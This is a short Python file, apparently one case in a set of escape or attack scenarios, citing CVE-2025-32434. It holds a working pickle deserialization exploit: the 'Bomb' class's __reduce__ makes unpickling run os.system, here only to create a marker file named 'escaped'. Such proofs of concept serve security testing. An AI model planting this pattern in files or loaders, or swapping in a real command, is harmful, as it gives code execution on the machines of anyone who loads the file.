"""Class: files. Source: CVE-2025-32434, in kind. Escape: torch reads a pickle, which runs what it
is told.
"""

import pickle
import os


class Bomb:
    def __reduce__(self):
        return os.system, ("touch escaped",)


def attack(model, tokenizer, scene):
    pickle.loads(pickle.dumps(Bomb()))
